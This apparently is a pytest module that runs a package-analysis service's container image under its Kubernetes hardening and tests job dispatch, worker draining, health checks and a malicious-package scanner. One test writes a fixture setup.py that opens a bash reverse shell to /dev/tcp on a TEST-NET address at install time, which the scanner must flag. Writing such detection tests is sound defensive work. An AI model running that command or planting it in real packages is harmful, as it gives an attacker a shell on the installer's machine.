"""The built image, run for real (`make test-image`): migrate, api, two workers and web as
containers held to the minikube manifests' securityContext and limits, against this
machine's PostgreSQL and Redis; a job dispatched through web completes and the api logs
it; a busy worker stopped by the engine drains its job and exits 0.

What differs from the manifests, and only that: the containers share the host's network
(so POSTGRES_*/REDIS_URL point at the harness's servers, PORT/WEB_PORT/API_UPSTREAM at spare
ports), the database is a fresh `<name>_image`, the queue, dead-letter and channel names
carry this run's id so nothing else on a shared Redis sees them, and the workers get this
machine's registry settings and CA bundle (image.runtime_flags).
"""

from __future__ import annotations

import io
import json
import os
import re
import tarfile
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from conftest import Manifests, container_env, containers
from containers import (
    engine,
    env_flags,
    hardened_flags,
    http,
    logs,
    remove_claim_volumes,
    services,
    spare_port,
    state,
    wait_for,
)

import harness

pytestmark = pytest.mark.image

IMAGE = os.environ.get("PACKAMAL_IMAGE", "")
# The largest the image may grow (runtime stage: Python, nginx, the venv, the app).
SIZE_BUDGET_MB = 450


@dataclass
class Stack:
    run: str
    api: str
    web: str
    names: dict[str, str]
    envs: dict[str, dict[str, str]] = field(default_factory=dict)

    def running(self) -> list[str]:
        return [n for r, n in self.names.items() if r != "migrate" and state(n).get("Running")]


@pytest.fixture(scope="module", autouse=True)
def _claim_volumes() -> Iterator[None]:
    """The named volumes standing in for the manifests' PVCs go when the module is done."""
    yield
    remove_claim_volumes()


@pytest.fixture(scope="module")
def built() -> str:
    if not IMAGE:
        pytest.skip("make test-image builds the image and passes it as PACKAMAL_IMAGE")
    engine("image", "inspect", IMAGE)
    return IMAGE


def _role_env(minikube: Manifests, role: str, overrides: dict[str, str]) -> dict[str, str]:
    env = container_env(minikube, _container(minikube, role)[1])
    env.update(overrides)
    return env


def _container(minikube: Manifests, role: str) -> tuple[dict, dict]:
    workload = minikube.app("api" if role == "migrate" else role)
    return workload, next(c for c in containers(workload) if c["args"] == [role])


def _run_flags(minikube: Manifests, role: str, name: str, env: dict[str, str]) -> list[str]:
    """The container's manifest hardening; a worker also gets this machine's registry
    settings and CA bundle (image.runtime_flags), which a cluster has no need for."""
    import image

    workload, container = _container(minikube, role)
    machine = image.runtime_flags() if role == "worker" else []
    return [
        "--name",
        name,
        "--hostname",
        name,
        "--network",
        "host",
        *hardened_flags(workload, container),
        *machine,
        *env_flags(env),
    ]


@pytest.fixture(scope="module")
def stack(built: str, rendered: dict[str, Manifests]) -> Iterator[Stack]:
    minikube = rendered["minikube"]
    run = uuid.uuid4().hex[:8]
    api_port, web_port = spare_port(), spare_port()
    local = services("image", run)
    overrides = {
        **local.env(),
        "PORT": str(api_port),
        "WEB_PORT": str(web_port),
        "API_UPSTREAM": f"http://127.0.0.1:{api_port}",
    }
    roles = ("migrate", "api", "worker1", "worker2", "web")
    names = {r: f"packamal-test-{r}-{run}" for r in roles}
    stack = Stack(run, f"http://127.0.0.1:{api_port}", f"http://127.0.0.1:{web_port}", names)
    for r in roles:
        stack.envs[r] = _role_env(minikube, r.rstrip("12"), overrides)
    try:
        flags = _run_flags(minikube, "migrate", names["migrate"], stack.envs["migrate"])
        migrate = engine("run", "--rm", *flags, built, "migrate", check=False)
        assert migrate.returncode == 0, migrate.stdout + migrate.stderr
        for r in roles[1:]:
            role = r.rstrip("12")
            engine(
                "run", "--detach", *_run_flags(minikube, role, names[r], stack.envs[r]), built, role
            )
        running = [names[r] for r in roles[1:]]
        wait_for("api /readyz", lambda: http("GET", f"{stack.api}/readyz")[0] == 200, 90, running)
        wait_for(
            "web /healthz",
            lambda: http("GET", f"{stack.web}/healthz")[0] == 200,
            harness.STARTUP_SECONDS,
            running,
        )
        yield stack
    finally:
        for name in names.values():
            engine("rm", "--force", "--volumes", "--time", "5", name, check=False)
        local.release()


def test_the_image_runs_as_10001_within_its_size_budget_with_no_build_tools(built: str):
    import image

    summary = image.report(built)
    assert summary["user"] == "10001:10001"
    assert summary["entrypoint"] == ["docker/entrypoint.sh"]
    assert summary["size_mb"] <= SIZE_BUDGET_MB, summary
    # The runtime stage carries no compilers, no uv, no node/npm (they stay in build stages).
    found = engine(
        "run",
        "--rm",
        "--entrypoint",
        "sh",
        built,
        "-c",
        "for t in gcc cc c++ make uv node npm; do command -v $t || true; done",
    ).stdout.split()
    assert found == [], found


def test_every_role_runs_hardened_as_in_the_manifests(stack: Stack):
    running = [stack.names[r] for r in ("api", "worker1", "worker2", "web")]
    for name in running:
        facts = engine(
            "exec",
            name,
            "sh",
            "-c",
            "id -u; id -g; grep -E '^(CapEff|NoNewPrivs):' /proc/1/status;"
            " touch /app/probe 2>&1 || true; touch /tmp/probe && echo tmp-writable;"
            " cat /proc/1/cmdline | tr '\\0' ' '",
        ).stdout
        lines = facts.splitlines()
        assert lines[:2] == ["10001", "10001"], facts
        assert re.search(r"CapEff:\s+0+$", facts, re.M), facts
        assert re.search(r"NoNewPrivs:\s+1$", facts, re.M), facts
        assert "Read-only file system" in facts, facts
        assert "tmp-writable" in facts, facts
        # The entrypoint execs the role: PID 1 is the role's program, not a shell.
        assert "entrypoint.sh" not in lines[-1], facts
        inspected = json.loads(engine("inspect", "--format", "{{json .HostConfig}}", name).stdout)
        assert inspected["ReadonlyRootfs"] is True
        assert inspected["Memory"] > 0, "the manifest's memory limit applies"


def test_a_job_dispatched_through_web_completes_and_the_api_logs_it(stack: Stack):
    status, job = http("POST", f"{stack.web}/api/dispatch", {"params": {"seconds": 1}})
    assert status == 202, job
    assert job["status"] == "queued"

    def completed() -> bool:
        status, body = http("GET", f"{stack.web}/api/jobs/{job['id']}")
        assert status == 200 and body["status"] != "failed", body
        return body["status"] == "completed"

    wait_for(f"job {job['id']}", completed, 60, stack.running())
    wait_for(
        "the api's completion log line",
        lambda: f"job {job['id']} completed" in logs(stack.names["api"]),
        15,
        stack.running(),
    )
    line = next(
        json.loads(x)
        for x in logs(stack.names["api"]).splitlines()
        if f"job {job['id']} completed" in x
    )
    assert line["message"].startswith(f"job {job['id']} completed (task=simulate worker=packamal")


def test_an_analyze_job_fetches_from_the_registry_in_the_hardened_worker(stack: Stack):
    """A real package from the npm registry, fetched, unpacked into the worker's scratch
    volume and scanned inside the worker container."""
    body = {"task": "analyze", "params": {"purl": "pkg:npm/is-number@7.0.0"}}
    status, job = http("POST", f"{stack.web}/api/dispatch", body)
    assert status == 202, job
    seen: dict = {}

    def finished() -> bool:
        seen.update(http("GET", f"{stack.api}/jobs/{job['id']}")[1])
        return seen["status"] in ("completed", "failed")

    wait_for(f"job {job['id']}", finished, 120, stack.running())
    assert seen["status"] == "completed", seen
    result = seen["result"]
    assert result["verdict"] == "clean", result
    assert result["package"]["purl"] == "pkg:npm/is-number@7.0.0"
    (artifact,) = result["artifacts"]
    assert artifact["filename"].endswith(".tgz") and len(artifact["sha256"]) == 64, artifact
    # The scratch directory is the worker's volume, and the analysis left nothing there.
    leftovers = engine("exec", stack.names["worker1"], "ls", "-A", "/scratch").stdout
    leftovers += engine("exec", stack.names["worker2"], "ls", "-A", "/scratch").stdout
    assert leftovers == "", leftovers


def test_the_worker_health_check_passes_inside_the_worker(stack: Stack):
    wait_for(
        "the worker's heartbeat",
        lambda: (
            engine(
                "exec",
                stack.names["worker1"],
                "docker/entrypoint.sh",
                "worker-healthcheck",
                check=False,
            ).returncode
            == 0
        ),
        30,
        stack.running(),
    )
    # And it fails where there is no worker loop: the check reads a real heartbeat.
    done = engine(
        "exec", stack.names["api"], "docker/entrypoint.sh", "worker-healthcheck", check=False
    )
    assert done.returncode == 1 and "no heartbeat file" in done.stderr, done


def test_a_busy_worker_stopped_by_the_engine_drains_its_job_and_exits_0(stack: Stack):
    status, job = http(
        "POST", f"{stack.web}/api/dispatch", {"params": {"seconds": 6, "mode": "sleep"}}
    )
    assert status == 202, job
    holder: dict[str, str] = {}

    def running() -> bool:
        body = http("GET", f"{stack.api}/jobs/{job['id']}")[1]
        if body["status"] == "running" and body["worker"]:
            holder["worker"] = body["worker"]
            return True
        return False

    # The workers may still be loading the analysis engine (over a minute at load 20).
    wait_for(f"job {job['id']} to start", running, harness.STARTUP_SECONDS, stack.running())
    name = holder["worker"].rsplit(".", 1)[0]  # worker ids are hostname.pid
    assert name in (stack.names["worker1"], stack.names["worker2"]), holder
    stopped = engine("stop", "--time", "60", name)
    assert stopped.returncode == 0
    assert state(name)["ExitCode"] == 0, logs(name)
    log = logs(name)
    assert "SIGTERM received, draining job" in log, log
    status, body = http("GET", f"{stack.api}/jobs/{job['id']}")
    assert body["status"] == "completed", body
    assert body["worker"] == holder["worker"] and body["attempts"] == 1, body


def _tar_gz(path: Path, files: dict[str, bytes]) -> None:
    with tarfile.open(path, "w:gz") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o644
            tar.addfile(info, io.BytesIO(data))


def test_the_scan_role_runs_in_a_hardened_container_with_no_network(
    built: str, rendered: dict[str, Manifests], tmp_path: Path
):
    """A clean sdist and one whose setup.py opens a reverse shell at install time (a string
    the scanner reads, never runs; the address is TEST-NET), mounted read-only."""
    shell = "bash -i >& " + "/dev/tcp/" + "203.0.113.7" + "/4444 0>&1"
    _tar_gz(
        tmp_path / "demo_pkg-1.2.3.tar.gz",
        {
            "demo_pkg-1.2.3/PKG-INFO": b"Metadata-Version: 2.1\nName: demo-pkg\nVersion: 1.2.3\n",
            "demo_pkg-1.2.3/src/demo_pkg/__init__.py": b"VALUE = 1\n",
        },
    )
    _tar_gz(
        tmp_path / "bad-1.0.tar.gz",
        {
            "bad-1.0/PKG-INFO": b"Metadata-Version: 2.1\nName: bad\nVersion: 1.0\n",
            "bad-1.0/setup.py": (
                f"from setuptools import setup\nimport os\nos.system('{shell}')\n"
            ).encode(),
        },
    )
    # Readable by the container's UID 10001, which is not the files' owner.
    tmp_path.chmod(0o755)
    workload, container = _container(rendered["minikube"], "worker")
    flags = [*hardened_flags(workload, container), "--network", "none"]
    flags += ["--volume", f"{tmp_path}:/scan:ro"]
    done = engine(
        "run",
        "--rm",
        *flags,
        built,
        "scan",
        "/scan/bad-1.0.tar.gz",
        "/scan/demo_pkg-1.2.3.tar.gz",
        check=False,
    )
    assert done.returncode == 3, done.stderr
    reports = [json.loads(line) for line in done.stdout.splitlines()]
    assert [r["verdict"] for r in reports] == ["malicious", "clean"]
    assert any(
        f["file"] == "bad-1.0/setup.py" and f["line"] == 3 and f["reachability"] == "install"
        for f in reports[0]["findings"]
    ), reports[0]


def test_the_scan_role_fetches_a_package_url_in_a_hardened_container(
    built: str, rendered: dict[str, Manifests]
):
    import image

    workload, container = _container(rendered["minikube"], "worker")
    flags = [*hardened_flags(workload, container), "--network", "host", *image.runtime_flags()]
    done = engine(
        "run", "--rm", *flags, built, "scan", "pkg:npm/is-number@7.0.0", "--format", "text",
        check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert done.stdout.split()[:2] == ["pkg:npm/is-number@7.0.0", "clean"], done.stdout
